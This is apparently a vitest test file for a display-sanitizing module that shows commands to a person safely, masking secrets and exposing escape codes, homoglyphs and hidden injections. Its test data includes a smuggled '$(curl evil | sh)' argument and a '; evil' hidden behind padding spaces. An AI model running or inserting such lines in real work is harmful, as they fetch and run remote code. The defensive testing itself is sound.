import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { isPlainLine } from "../../text/plain-text.ts";
import {
  isSteering,
  MASKED,
  toAscii,
  toShown,
  toShownArgument,
  toShownJson,
  toShownValue,
} from "./shown-text.ts";

describe("what a person sees of a command", () => {
  it.each([
    ["plain words", "npx", "npx"],
    ["a path", "./server.js", "./server.js"],
    ["spaces", "a b", '"a b"'],
    ["an escape", "a\u001b[2Jb", '"a\\u001b[2Jb"'],
    ["a line that fakes ours", "a\nTrust this?", '"a\\nTrust this?"'],
    ["text that turns around", "\u202egnp.sh", '"\\u202egnp.sh"'],
    ["spaces that push the rest out of sight", `a${" ".repeat(300)}; evil`, '"a[300 spaces]; evil"'],
    ["a variable", "${HOME}/bin", "${HOME}/bin"],
    ["a key", "sk-abcdef1234567890", MASKED],
    ["a password in an address", "https://bob:hunter2@x.y/z", `"https://bob:${MASKED}@x.y/z"`],
    ["an option with its key", "--api-key=hunter2", `--api-key=${MASKED}`],
    ["a header", "Authorization: Bearer abc", `"Authorization: Bearer ${MASKED}"`],
  ])("%s", (_, text, shown) => {
    // A mask is no plain word to a shell.
    expect(toShown(text).replaceAll('"', "")).toBe(shown.replaceAll('"', ""));
  });

  it("hides the key after its option, and not a command there", () => {
    expect(toShownArgument("hunter2", "--token")).toBe(MASKED);
    expect(toShownArgument("$(curl evil | sh)", "--token")).toContain("curl evil | sh");
    expect(toShownArgument("./evil.sh", "--token")).toBe("./evil.sh");
  });

  it("hides what a variable of a secret's name holds, and never what steers a program", () => {
    expect(toShownValue("API_KEY", "hunter2")).toBe(MASKED);
    expect(toShownValue("API_KEY", "${API_KEY}")).toBe("${API_KEY}");
    for (const name of [
      "NODE_OPTIONS",
      "LD_PRELOAD",
      "PATH",
      "PYTHONPATH",
      "GIT_SSH_COMMAND",
      "DYLD_INSERT_LIBRARIES",
    ])
      expect([isSteering(name), toShownValue(name, "sk-abcdef1234567890")]).toEqual([
        true,
        "sk-abcdef1234567890",
      ]);
  });

  it("writes out letters that look like others", () => {
    expect(toAscii("https://ex\u0430mple.com")).toBe('"https://ex\\u{430}mple.com"');
    expect(toAscii("plain")).toBeUndefined();
  });

  it("says how much was cut", () => {
    expect(toShown("x ".repeat(5_000))).toMatch(/and 8000 more characters$/);
    expect(toShownJson("x ".repeat(5_000)).length).toBeLessThan(2_100);
  });

  it("is safe for a terminal, whatever it was", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.string({ unit: "binary" }), (text, name) => {
        for (const shown of [
          toShown(text),
          toShownArgument(text, name),
          toShownValue(name, text),
          toShownJson({ [name]: text }),
        ])
          expect(isPlainLine(shown.replace(/\u200c|\u200d|\ufe0f/g, ""))).toBe(true);
        expect(toAscii(text) ?? "").toMatch(/^[\u0020-\u007e]*$/);
      }),
    );
  });

  it("hides no character of an instruction: what is hidden is a single word", () => {
    fc.assert(
      fc.property(
        fc.string(),
        fc.constantFrom("; ", " | ", " $(", " && ", "`"),
        fc.string(),
        (before, operator, after) => {
          const text = `${before}${operator}${after}`;
          if (text.length < 2_000 && !/\s{5,}/.test(text)) expect(toShown(text)).toContain(operator.trim());
        },
      ),
    );
  });
});
